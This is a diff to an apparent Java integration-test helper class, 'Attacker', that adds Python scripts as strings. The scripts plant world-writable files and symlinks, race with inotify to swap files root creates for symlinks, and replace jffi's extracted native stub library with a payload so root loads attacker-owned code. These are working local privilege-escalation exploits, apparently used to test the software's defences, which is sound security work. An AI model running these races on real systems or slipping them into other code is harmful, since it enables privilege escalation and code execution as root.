@@ -256,4 +256,108 @@ final class Attacker implements AutoCloseable {
             throw new UncheckedIOException("cannot run the attacker " + command, e);
         }
     }
+    // ---- issue 25, classes 8 and 10 (SecurityFilesIT) ------------------------------------
+
+    /** {@code LINK TARGET}: a symbolic link of nobody's. */
+    static final String SYMLINK = """
+            import os, sys
+            os.symlink(sys.argv[2], sys.argv[1])
+            print("linked", flush=True)
+            """;
+
+    /** {@code PATH TEXT}: a regular file of nobody's, mode 0666, holding TEXT. */
+    static final String PLANT_FILE = """
+            import os, sys
+            fd = os.open(sys.argv[1], os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o666)
+            os.fchmod(fd, 0o666)
+            os.write(fd, sys.argv[2].encode())
+            print("planted", flush=True)
+            """;
+
+    /**
+     * {@code DIR TARGET NAME...}: keeps a symlink to TARGET at every DIR/NAME, planting it again
+     * the moment the name is free (after root renamed or removed what was there), and swaps every
+     * other new file in DIR for such a link the moment inotify reports it. Prints
+     * {@code watching}, then {@code planted NAME} per link made, {@code created NAME} per file
+     * of someone else's, {@code swapped NAME} per win, {@code missed NAME: why} per loss.
+     */
+    static final String REPLANT_AND_SWAP = RACE_PRELUDE + """
+            import fcntl, time
+            d, target, names = sys.argv[1], sys.argv[2], sys.argv[3:]
+            fd = watch(d)
+            fcntl.fcntl(fd, fcntl.F_SETFL, os.O_NONBLOCK)
+            links = Links(d, target)
+            print("watching", flush=True)
+            def events():
+                try:
+                    buf = os.read(fd, 65536)
+                except BlockingIOError:
+                    return []
+                out, i = [], 0
+                while i < len(buf):
+                    _, mask, _, n = struct.unpack_from("iIII", buf, i)
+                    out.append((mask, buf[i + 16:i + 16 + n].rstrip(b"\\0").decode()))
+                    i += 16 + n
+                return out
+            while True:
+                for name in names:
+                    try:
+                        os.symlink(target, os.path.join(d, name))
+                        print("planted " + name, flush=True)
+                    except FileExistsError:
+                        pass
+                for mask, name in events():
+                    if mask & IN_ISDIR or name in names or name.startswith(".atk"):
+                        continue
+                    print("created " + name, flush=True)
+                    try:
+                        exchange(links.path, os.path.join(d, name))
+                    except OSError as e:
+                        print("missed %s: %s" % (name, e.strerror), flush=True)
+                        continue
+                    print("swapped " + name, flush=True)
+                    links.next()
+                time.sleep(0.0005)
+            """;
+
+    /**
+     * {@code DIR PAYLOAD}: watches DIR for jffi's extracted stub library ({@code jffi*.so}):
+     * prints {@code created NAME} when one appears, and each time one is closed after writing
+     * with content, moves a copy of PAYLOAD over it ({@code swapped NAME}), so that what root
+     * then loads by that name is nobody's. Prints {@code watching} first.
+     */
+    static final String SWAP_JFFI_STUB = """
+            import ctypes, os, shutil, struct, sys
+            libc = ctypes.CDLL(None, use_errno=True)
+            IN_CLOSE_WRITE, IN_CREATE = 0x8, 0x100
+            d, payload = sys.argv[1:3]
+            fd = libc.inotify_init1(0)
+            if fd < 0 or libc.inotify_add_watch(fd, d.encode(), IN_CREATE | IN_CLOSE_WRITE) < 0:
+                sys.exit("inotify on %s: %s" % (d, os.strerror(ctypes.get_errno())))
+            print("watching", flush=True)
+            n = 0
+            while True:
+                buf = os.read(fd, 65536)
+                i = 0
+                while i < len(buf):
+                    _, mask, _, ln = struct.unpack_from("iIII", buf, i)
+                    name = buf[i + 16:i + 16 + ln].rstrip(b"\\0").decode()
+                    i += 16 + ln
+                    if not name.startswith("jffi"):
+                        continue
+                    path = os.path.join(d, name)
+                    if mask & IN_CREATE:
+                        print("created " + name, flush=True)
+                    elif mask & IN_CLOSE_WRITE:
+                        try:
+                            if os.stat(path).st_size == 0:
+                                continue
+                            n += 1
+                            spare = os.path.join(d, ".payload%d" % n)
+                            shutil.copyfile(payload, spare)
+                            os.rename(spare, path)
+                            print("swapped " + name, flush=True)
+                        except OSError as e:
+                            print("missed %s: %s" % (name, e.strerror), flush=True)
+            """;
 }
